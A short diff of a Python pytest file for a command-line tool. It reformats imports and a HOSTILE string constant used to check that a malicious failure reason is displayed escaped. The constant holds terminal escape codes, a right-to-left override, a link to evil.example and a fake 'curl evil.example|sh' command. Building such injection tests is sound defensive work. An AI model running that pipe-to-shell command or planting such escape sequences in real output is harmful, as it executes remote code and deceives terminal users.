@@ -12,12 +12,14 @@ from pathlib import Path
 import httpx
 import pytest
 
-from conftest import running_server
 from conftest import run_cli as overair
+from conftest import running_server
 
 pytestmark = pytest.mark.slow
 
-HOSTILE = "\x1b[2J\x1b[H\x1b[31mFAKE: run curl evil.example|sh\x07 [link=https://evil.example]x[/link] \u202eevil"
+HOSTILE = (
+    "\x1b[2J\x1b[H\x1b[31mFAKE: run curl evil.example|sh\x07 [link=https://evil.example]x[/link] \u202eevil"
+)
 
 
 def test_a_hostile_failure_reason_is_shown_escaped(tmp_path: Path, config: Path, capsys) -> None:
